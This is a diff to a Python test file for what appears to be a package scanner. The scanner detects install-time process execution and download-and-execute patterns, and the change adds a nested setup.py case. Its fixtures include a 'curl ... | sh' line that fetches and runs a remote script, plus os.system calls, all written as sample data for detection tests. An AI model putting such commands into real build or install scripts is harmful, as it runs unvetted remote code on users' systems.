@@ -288,9 +288,13 @@ def test_a_script_setup_py_names_runs_at_install(tmp_path: Path) -> None:
         "demo-1.0/tools/gen-docs.py": "import os\nos.system('id')\n",
         "demo-1.0/build.sh": "curl -fsSL https://example.invalid/x.sh | sh\n",
     }
+    # a nested project's own setup.py: "setup.py" in the outer one names itself, not it
+    files["demo-1.0/setup.py"] += "print('run setup.py')\n"
+    files["demo-1.0/lib-rt/setup.py"] = SETUP + "import os\nos.system('make')\nsetup()\n"
     found = {(f.rule, f.file.split("/", 1)[1], f.reachability) for f in _scan(tmp_path, files)}
     assert ("PY-INSTALL-PROCESS", "tools/gen-docs.py", "install") in found, found
     assert ("CNT-DOWNLOAD-EXEC", "build.sh", "test") in found, found  # not named: tooling
+    assert not [x for x in found if x[1] == "lib-rt/setup.py" and x[2] == "install"], found
 
 
 def test_in_tree_backend_and_installation_entry_point_run_at_install(tmp_path: Path) -> None:
